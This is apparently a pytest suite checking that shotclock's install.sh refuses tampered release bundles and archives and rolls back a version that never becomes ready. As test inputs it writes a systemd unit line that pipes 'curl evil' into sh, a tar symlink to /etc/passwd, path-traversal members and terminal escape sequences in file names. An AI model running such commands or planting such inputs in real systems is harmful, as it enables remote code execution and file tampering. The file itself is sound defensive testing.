"""install.sh against a bundle it must refuse, and a version that never becomes ready.

The bundle's check runs in a dry run too (it only reads), so a bundle made here with the bundle's own
SHA256SUMS writer is checked by the real install.sh with nothing installed. The READY wait runs against a
fake ``systemctl`` on the PATH and a version folder under a temporary prefix (SHOTCLOCK_PREFIX).
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest

import shotclock
from helpers import load_tool

ROOT = Path(__file__).parent.parent
bundle = load_tool("bundle")
VERSION = shotclock.__version__
WHEEL = f"wheels/shotclock-{VERSION}-py3-none-any.whl"
SIGNIFY = shutil.which("signify-openbsd")
needs_signify = pytest.mark.skipif(SIGNIFY is None and not os.environ.get("CI"),
                                   reason="signify-openbsd not installed (apt-get install signify-openbsd)")


def make_wheel(path: Path, engine: str) -> None:
    """A wheel-shaped zip holding shotclock/core/engine.py with ``engine`` as its text."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("shotclock/__init__.py", f'__version__ = "{VERSION}"\n')
        z.writestr("shotclock/core/engine.py", engine)


@pytest.fixture
def made(tmp_path):
    """An unpacked bundle as ./dev bundle lays it out: install.sh, the unit files, a wheel, SHA256SUMS."""
    top = tmp_path / f"shotclock-{VERSION}"
    for name in bundle.HARDWARE_FILES:
        (top / "hardware").mkdir(parents=True, exist_ok=True)
        shutil.copy2(ROOT / "hardware" / name, top / "hardware" / name)
    shutil.copy2(ROOT / "README.md", top / "README.md")
    make_wheel(top / WHEEL, "RULE = 'the real one'\n")
    bundle.write_sums(top)
    return top


def install(top: Path, *args: str, release_key: Path | None = None) -> subprocess.CompletedProcess:
    env = dict(os.environ, DRY_RUN="1", SHOTCLOCK_RELEASE_KEY=str(release_key or top.parent / "no-such-key.pub"))
    return subprocess.run(["sh", str(top / "hardware" / "install.sh"), *args], env=env, capture_output=True,
                          text=True, timeout=60)


def refused(proc: subprocess.CompletedProcess, *words: str) -> bool:
    """Exit 3 with one line on stderr holding ``words``, and no installing step after it."""
    return (proc.returncode == 3 and proc.stderr.count("\n") == 1 and proc.stderr.endswith(": not installing\n")
            and all(w in proc.stderr for w in words) and "+ env DEBIAN_FRONTEND" not in proc.stdout
            and "pip install" not in proc.stdout)


def keys(tmp_path: Path, name: str = "release") -> tuple[Path, Path]:
    pub, sec = tmp_path / f"{name}.pub", tmp_path / f"{name}.sec"
    subprocess.run([SIGNIFY or "signify-openbsd", "-G", "-n", "-p", str(pub), "-s", str(sec)], check=True,
                   capture_output=True, timeout=60)
    return pub, sec


def test_an_intact_bundle_is_checked_and_installed(made):
    proc = install(made)
    assert proc.returncode == 0, proc.stderr
    assert "bundle checked against its SHA256SUMS (not signed)" in proc.stdout
    assert "pip install" in proc.stdout
    # The version keeps this install.sh: the next update's --bundle runs it.
    kept = f"/opt/shotclock/{VERSION}/hardware/install.sh"
    assert f"+ install -D -m 0644 {made}/hardware/install.sh {kept}" in proc.stdout


def test_a_wheel_rebuilt_with_a_changed_engine_is_refused(made):
    make_wheel(made / WHEEL, "RULE = 'the player always loses'\n")  # a valid zip, another engine
    assert refused(install(made), WHEEL, "does not match its SHA256SUMS")


def test_a_file_added_beside_the_sums_is_refused(made):
    make_wheel(made / "wheels" / "shotclock-9.9.9-py3-none-any.whl", "RULE = 'newer, from nowhere'\n")
    assert refused(install(made), "wheels/shotclock-9.9.9-py3-none-any.whl", "not in its SHA256SUMS")


def test_a_bundle_without_sums_or_with_a_file_gone_is_refused(made):
    (made / "README.md").unlink()
    assert refused(install(made), "README.md", "is missing")
    (made / "SHA256SUMS").unlink()
    assert refused(install(made), "no SHA256SUMS")


@needs_signify
def test_a_signed_bundle_is_checked_against_the_key_and_the_key_is_kept(made, tmp_path):
    pub, sec = keys(tmp_path)
    bundle.sign(made / "SHA256SUMS", sec)
    kept = tmp_path / "etc" / "release.pub"
    proc = install(made, "--key", str(pub), release_key=kept)
    assert proc.returncode == 0, proc.stderr
    assert f"SHA256SUMS signed by {pub}" in proc.stdout and f"+ install -m 0644 {pub} {kept}" in proc.stdout


@needs_signify
def test_new_sums_for_a_changed_wheel_fail_the_signature(made, tmp_path):
    pub, sec = keys(tmp_path)
    bundle.sign(made / "SHA256SUMS", sec)
    make_wheel(made / WHEEL, "RULE = 'the player always loses'\n")
    bundle.write_sums(made)  # what someone who changed the wheel would do next
    assert refused(install(made, "--key", str(pub)), "signature does not match", str(pub))
    other, other_sec = keys(tmp_path, "other")
    bundle.sign(made / "SHA256SUMS", other_sec)  # signed, by another key
    assert refused(install(made, "--key", str(pub)), "signature does not match")


@needs_signify
def test_once_a_key_is_kept_an_unsigned_bundle_is_refused(made, tmp_path):
    pub, _ = keys(tmp_path)
    assert refused(install(made, release_key=pub), "not signed", str(pub))
    assert refused(install(made, "--key", str(pub)), "not signed")


def test_a_missing_key_file_is_one_line(made, tmp_path):
    proc = install(made, "--key", str(tmp_path / "nope.pub"))
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "nope.pub: no such file" in proc.stderr


@needs_signify
def test_bundle_sign_writes_a_signature_signify_accepts(tmp_path, capsys):
    pub, sec = keys(tmp_path)
    top = tmp_path / "top"
    top.mkdir()
    (top / "a.txt").write_text("a\n")
    sums = bundle.write_sums(top)
    sig = bundle.sign(sums, sec)
    assert subprocess.run([SIGNIFY, "-V", "-q", "-p", str(pub), "-m", str(sums), "-x", str(sig)]).returncode == 0
    assert bundle.main(["--sign", str(tmp_path / "missing.sec")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "missing.sec: no such file" in err



# -- entries that are not files (issue 36) -------------------------------------------------------------
NEWER = "wheels/shotclock-9.9.9-py3-none-any.whl"  # a version the bundle never had: `ls wheels` would pick it


def test_a_link_named_like_a_newer_wheel_to_one_outside_the_bundle_is_refused(made, tmp_path):
    # Before: `find -type f` skipped links, `ls wheels` picked 9.9.9, and pip installed the unsigned wheel.
    make_wheel(tmp_path / "evil.whl", "RULE = 'the player always loses'\n")
    (made / NEWER).symlink_to("../../evil.whl")
    assert (made / NEWER).resolve() == (tmp_path / "evil.whl").resolve()
    assert refused(install(made), NEWER, "symbolic link")


def test_a_folder_named_like_a_wheel_is_refused(made):
    # Before: it passed, and the install went for shotclock 9.9.9, which the bundle does not have.
    (made / NEWER).mkdir()
    assert refused(install(made), NEWER, "folder")


def test_a_listed_file_swapped_for_a_link_to_the_same_bytes_is_refused(made, tmp_path):
    # Its sum matches (the link's target holds the same bytes): what must be refused is that it is a link.
    outside = tmp_path / "README.md"
    outside.write_bytes((made / "README.md").read_bytes())
    (made / "README.md").unlink()
    (made / "README.md").symlink_to(outside)
    assert refused(install(made), "README.md", "symbolic link")


def test_a_fifo_or_a_device_in_the_bundle_is_refused_without_reading_it(made):
    os.mkfifo(made / "SHA256SUMS.sig")  # a reader would wait on it forever
    assert refused(install(made), "SHA256SUMS.sig", "FIFO")
    (made / "SHA256SUMS.sig").unlink()
    (made / "SHA256SUMS").rename(made / "sums")
    os.mkfifo(made / "SHA256SUMS")
    assert refused(install(made), "SHA256SUMS", "FIFO")


def test_a_listed_name_outside_the_bundle_is_refused(made, tmp_path):
    # SHA256SUMS names ../outside.txt with its right sum: the check must not read, nor trust, a file out there.
    (tmp_path / "outside.txt").write_text("not part of the release\n")
    digest = hashlib.sha256(b"not part of the release\n").hexdigest()
    with open(made / "SHA256SUMS", "a") as sums:
        sums.write(f"{digest}  ../outside.txt\n")
    assert refused(install(made), "../outside.txt", "not a plain name inside the bundle")


def test_a_name_with_a_line_break_is_refused(made):
    (made / "wheels" / "x\nshotclock-9.9.9-py3-none-any.whl").write_text("")
    assert refused(install(made), "line break")


def test_the_version_is_the_newest_shotclock_wheel_the_sums_list(made):
    make_wheel(made / "wheels" / "shotclock-0.0.1-py3-none-any.whl", "RULE = 'old'\n")
    bundle.write_sums(made)
    proc = install(made)
    assert proc.returncode == 0, proc.stderr
    assert f"shotclock=={VERSION}" in proc.stdout and "shotclock==0.0.1" not in proc.stdout
    proc = install(made, "--version", "0.0.1")
    assert proc.returncode == 0 and "shotclock==0.0.1" in proc.stdout, proc.stderr
    proc = install(made, "--version", "9.9.9")
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1 and f"it has: 0.0.1 {VERSION}" in proc.stderr


def test_switch_checks_the_bundle_it_takes_the_unit_files_from(made):
    # --switch installs the bundle's unit files as root: a changed unit is a changed program.
    unit = made / "hardware" / "shotclock.service"
    unit.write_text(unit.read_text().replace("ExecStart=", "ExecStartPre=/bin/sh -c 'curl evil | sh'\nExecStart="))
    assert refused(install(made, "--switch"), "hardware/shotclock.service", "does not match")



def test_a_name_with_a_terminals_escape_is_said_without_it(made):
    (made / "wheels" / "x\x1b]0;pwned\x07.whl").write_text("")
    proc = install(made)
    assert refused(proc, "wheels/x?]0;pwned?.whl", "not in its SHA256SUMS") and "\x1b" not in proc.stderr


def test_a_sums_line_in_another_form_is_refused(made, tmp_path):
    # sha256sum reads '*NAME' (binary mode) too, and would check a file outside the bundle with it.
    (tmp_path / "outside.txt").write_text("x\n")
    digest = hashlib.sha256(b"x\n").hexdigest()
    with open(made / "SHA256SUMS", "a") as sums:
        sums.write(f"{digest} *../outside.txt\n")
    assert refused(install(made), "a line that is not 'SUM  NAME'", "*../outside.txt")


def test_a_key_that_is_not_a_file_is_one_line(made, tmp_path):
    os.mkfifo(tmp_path / "key.pub")  # signify would wait on it forever
    proc = install(made, "--key", str(tmp_path / "key.pub"))
    assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and "key.pub: no such file" in proc.stderr


def test_a_bundle_without_its_wheels_is_refused_not_taken_for_a_checkout(made):
    # With wheels/ gone and a shotclock/ source beside SHA256SUMS, it looked like a checkout: installed unchecked.
    shutil.rmtree(made / "wheels")
    (made / "shotclock").mkdir()
    (made / "shotclock" / "__init__.py").write_text(f'__version__ = "{VERSION}"\n')
    assert refused(install(made), "wheels/shotclock-")

# -- unpacking an archive: install.sh --bundle FILE ----------------------------------------------------


def archive_of(top: Path, out: Path, extra=()) -> Path:
    """``top`` as ./dev bundle packs it (tar.gz, one folder), then the ``extra`` TarInfo members (with bytes)."""
    with tarfile.open(out, "w:gz") as tar:
        tar.add(top, arcname=top.name)
        for info, data in extra:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out


def member(name: str, kind=tarfile.REGTYPE, data: bytes | None = b"pwned\n", link: str = "") -> tuple:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    if kind == tarfile.REGTYPE:
        info.size = len(data)
    return info, data if kind == tarfile.REGTYPE else None


def install_archive(archive: Path, *args: str, tmp: Path, release_key: Path | None = None):
    """ROOT's install.sh (the one a table has installed) with --bundle ARCHIVE, unpacking under ``tmp``."""
    env = dict(os.environ, DRY_RUN="1", TMPDIR=str(tmp), SHOTCLOCK_UNPACK_FILES="40",  # the bundle here has 12
               SHOTCLOCK_RELEASE_KEY=str(release_key or tmp / "no-such-key.pub"))
    return subprocess.run(["sh", str(ROOT / "hardware" / "install.sh"), "--bundle", str(archive), *args], env=env,
                          capture_output=True, text=True, timeout=120)


@pytest.fixture
def unpack_dir(tmp_path):
    folder = tmp_path / "unpack"
    folder.mkdir()
    return folder


def test_an_intact_archive_is_unpacked_checked_and_its_install_sh_run(made, tmp_path, unpack_dir):
    archive = archive_of(made, tmp_path / "bundle.tar.gz")
    proc = install_archive(archive, tmp=unpack_dir)
    assert proc.returncode == 0, proc.stderr
    assert f"installing shotclock {VERSION} from the bundle" in proc.stdout and "pip install" in proc.stdout
    assert list(unpack_dir.iterdir()) == []  # the unpacked copy is gone afterwards


@pytest.mark.parametrize("extra, words", [
    ([member("shotclock-X/wheels/link.whl", tarfile.SYMTYPE, link="/etc/passwd")], ["link.whl", "symbolic link"]),
    ([member("shotclock-X/wheels", tarfile.SYMTYPE, link="/tmp"), member("shotclock-X/wheels/x.whl")],
     ["shotclock-X/wheels", "symbolic link"]),
    ([member("shotclock-X/hard", tarfile.LNKTYPE, link="shotclock-X/README.md")], ["hard", "hard link"]),
    ([member("shotclock-X/fifo", tarfile.FIFOTYPE)], ["fifo", "FIFO"]),
    ([member("shotclock-X/zero", tarfile.CHRTYPE)], ["zero", "device"]),
    ([member("../escape.txt")], ["../escape.txt", "not a plain path"]),
    ([member("/tmp/escape.txt")], ["/tmp/escape.txt", "not a plain path"]),
    ([member("elsewhere/x.txt")], ["elsewhere/x.txt", "outside its folder"]),
    ([member("shotclock-X/README.md")], ["README.md", "twice"]),
    ([member(f"shotclock-X/docs/{n}.md", data=b"") for n in range(50)], ["more than 40 members"]),
    ([member("shotclock-X/x\x1b[2J.md")], ["x\\x1b[2J.md", "not a plain path"]),
])
def test_an_archive_member_that_is_not_a_plain_file_inside_its_folder_is_refused(made, tmp_path, unpack_dir,
                                                                                  extra, words):
    top = made.name
    extra = [(replace_name(info, info.name.replace("shotclock-X", top)), data) for info, data in extra]
    archive = archive_of(made, tmp_path / "bundle.tar.gz", extra)
    proc = install_archive(archive, tmp=unpack_dir)
    assert refused(proc, *[w.replace("shotclock-X", top) for w in words]), proc.stdout + proc.stderr
    assert "installing shotclock" not in proc.stdout  # its install.sh never ran
    assert list(unpack_dir.iterdir()) == [] and not (tmp_path.parent / "escape.txt").exists()


def replace_name(info: tarfile.TarInfo, name: str) -> tarfile.TarInfo:
    info.name = name
    if info.type == tarfile.LNKTYPE:
        info.linkname = info.linkname.replace("shotclock-X", name.split("/")[0])
    return info


def test_a_changed_install_sh_in_an_archive_is_refused_before_it_runs(made, tmp_path, unpack_dir):
    script = made / "hardware" / "install.sh"
    script.write_text("#!/bin/sh\necho PWNED\nexit 0\n")  # after the sums: what someone who changed it would do
    proc = install_archive(archive_of(made, tmp_path / "bundle.tar.gz"), tmp=unpack_dir)
    assert refused(proc, "hardware/install.sh", "does not match") and "PWNED" not in proc.stdout


@needs_signify
def test_an_archive_with_new_sums_and_a_changed_install_sh_fails_the_kept_key(made, tmp_path, unpack_dir):
    pub, sec = keys(tmp_path)
    (made / "hardware" / "install.sh").write_text("#!/bin/sh\necho PWNED\nexit 0\n")
    bundle.write_sums(made)  # whole again, but not signed by the release's key
    proc = install_archive(archive_of(made, tmp_path / "bundle.tar.gz"), tmp=unpack_dir, release_key=pub)
    assert refused(proc, "not signed", str(pub)) and "PWNED" not in proc.stdout


@pytest.mark.parametrize("content, words", [(b"not a gzip file\n", "not a .tar.gz archive"),
                                             (None, "FIFO")])
def test_an_archive_that_is_no_archive_is_refused(tmp_path, unpack_dir, content, words):
    archive = tmp_path / "bundle.tar.gz"
    if content is None:
        os.mkfifo(archive)
    else:
        archive.write_bytes(content)
    assert refused(install_archive(archive, tmp=unpack_dir), str(archive), words)


def test_bundle_needs_a_file_and_goes_with_neither_rollback_nor_uninstall(tmp_path):
    for args, words in ((("--bundle",), "--bundle needs a value"),
                        (("--bundle", str(tmp_path / "nope.tar.gz")), "nope.tar.gz: no such file"),
                        (("--bundle", "x.tar.gz", "--rollback"), "--rollback goes alone"),
                        (("--bundle", "x.tar.gz", "--uninstall"), "--bundle does not go with --uninstall")):
        proc = subprocess.run(["sh", str(ROOT / "hardware" / "install.sh"), *args], capture_output=True, text=True,
                              env=dict(os.environ, DRY_RUN="1"), timeout=60)
        assert proc.returncode == 2 and proc.stderr.count("\n") == 1 and words in proc.stderr, (args, proc.stderr)


# -- the READY wait after a restart ------------------------------------------------------------------

FAKE_SYSTEMCTL = """#!/bin/sh
# The service as systemd would show it: a version with a 'bad' file in its folder never becomes READY;
# every restart gives the next process id.
state="$SHOTCLOCK_PREFIX/.fake"
case "$1" in
    show)
        v="$(readlink "$SHOTCLOCK_PREFIX/current")"
        n="$(cat "$state/restarts" 2>/dev/null || echo 0)"
        if [ -e "$state/stopped" ]; then s="inactive dead 0"
        elif [ -e "$SHOTCLOCK_PREFIX/$v/bad" ]; then s="activating auto-restart 0"
        else s="active running $((4000 + n))"; fi
        # A version that exits at once: systemd restarts it every time it is looked at.
        if [ -e "$SHOTCLOCK_PREFIX/$v/crashes" ]; then echo x >>"$state/crashes"; fi
        set -- $s "$@"
        case "$*" in
            *NRestarts*) cat "$state/crashes" 2>/dev/null | wc -l ;;
            *--value*) echo "$3" ;;
            *) printf 'ActiveState=%s\\nSubState=%s\\nMainPID=%s\\n' "$1" "$2" "$3" ;;
        esac ;;
    stop) touch "$state/stopped" ;;
    restart)
        rm -f "$state/stopped"
        echo $(($(cat "$state/restarts" 2>/dev/null || echo 0) + 1)) >"$state/restarts"
        echo "restart -> $(readlink "$SHOTCLOCK_PREFIX/current")" >>"$state/log" ;;
esac
exit 0
"""


@pytest.fixture
def prefix(tmp_path):
    """/opt/shotclock with versions 1.0 (runs) and 2.0, current 2.0 and previous 1.0; a fake systemctl."""
    opt = tmp_path / "opt"
    for version in ("1.0", "2.0"):
        exe = opt / version / "venv" / "bin" / "shotclock"
        exe.parent.mkdir(parents=True)
        exe.write_text("#!/bin/sh\n")
        exe.chmod(0o755)
    (opt / "current").symlink_to("2.0")
    (opt / "previous").symlink_to("1.0")
    (opt / ".fake").mkdir()
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "systemctl").write_text(FAKE_SYSTEMCTL)
    (bin_dir / "id").write_text('#!/bin/sh\n[ "$1" = -u ] && { echo 0; exit 0; }\nexec /usr/bin/id "$@"\n')
    for f in bin_dir.iterdir():
        f.chmod(0o755)
    return opt


def rollback(opt: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, SHOTCLOCK_PREFIX=str(opt), SHOTCLOCK_READY_TIMEOUT="3", SHOTCLOCK_READY_HOLD="0.2",
               PATH=f"{opt.parent / 'bin'}:{os.environ['PATH']}")
    env.pop("DRY_RUN", None)
    return subprocess.run(["sh", str(ROOT / "hardware" / "install.sh"), "--rollback"], env=env, capture_output=True,
                          text=True, timeout=60)


def test_a_rollback_to_a_version_that_never_gets_ready_switches_back(prefix):
    (prefix / "1.0" / "bad").write_text("")
    proc = rollback(prefix)
    assert proc.returncode == 4, proc.stdout + proc.stderr
    assert proc.stderr.count("\n") == 1 and "shotclock 1.0 did not become ready (no READY within 3 s)" in proc.stderr
    assert "switched back to shotclock 2.0, which runs" in proc.stderr and "done:" not in proc.stdout
    assert os.readlink(prefix / "current") == "2.0" and os.readlink(prefix / "previous") == "1.0"
    assert (prefix / ".fake" / "log").read_text() == "restart -> 1.0\nrestart -> 2.0\n"


def test_a_rollback_that_gets_ready_says_so(prefix):
    proc = rollback(prefix)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "done: shotclock 1.0 runs, READY" in proc.stdout
    assert os.readlink(prefix / "current") == "1.0" and os.readlink(prefix / "previous") == "2.0"


def test_when_neither_version_gets_ready_it_says_that_too(prefix):
    (prefix / "1.0" / "bad").write_text("")
    (prefix / "2.0" / "bad").write_text("")
    proc = rollback(prefix)
    assert proc.returncode == 4 and "which did not become ready either" in proc.stderr, proc.stderr
    assert os.readlink(prefix / "current") == "2.0"


def test_a_version_systemd_keeps_restarting_is_given_up_early(prefix):
    (prefix / "1.0" / "bad").write_text("")
    (prefix / "1.0" / "crashes").write_text("")
    # The wait ends at the third restart, long before the 600 s.
    env = dict(os.environ, SHOTCLOCK_PREFIX=str(prefix), SHOTCLOCK_READY_TIMEOUT="600",
               SHOTCLOCK_READY_HOLD="0.2", PATH=f"{prefix.parent / 'bin'}:{os.environ['PATH']}")
    proc = subprocess.run(["sh", str(ROOT / "hardware" / "install.sh"), "--rollback"], env=env, capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode == 4 and re.search(r"shotclock 1\.0 did not become ready \(it stopped \d+ times\)",
                                              proc.stderr), proc.stderr
    assert "switched back to shotclock 2.0, which runs" in proc.stderr and os.readlink(prefix / "current") == "2.0"
